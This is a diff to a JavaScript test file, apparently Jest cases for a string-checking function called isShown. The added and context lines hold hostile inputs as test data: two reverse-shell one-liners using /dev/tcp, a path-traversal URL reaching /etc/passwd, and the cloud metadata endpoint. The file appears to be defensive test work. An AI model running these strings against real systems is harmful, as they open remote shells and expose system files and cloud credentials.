@@ -26,6 +26,9 @@ it.each([
     false,
   ],
   ['a public one', 'The exploit gave a shell: `⟦bash -i >& /dev/tcp/45.77.12.9/4444⟧`.', false],
+  ['a bare address of one', '⟦http://192.168.1.10/admin⟧', true],
+  ['what climbs out of it', '⟦http://192.168.1.10/../../etc/passwd⟧', false],
+  ['a bare address elsewhere', '⟦http://169.254.169.254/latest/meta-data⟧', false],
   ['a script', '⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧', false],
 ])('tells %s', (_, written, expected) => {
   expect(isShown(written)).toBe(expected)
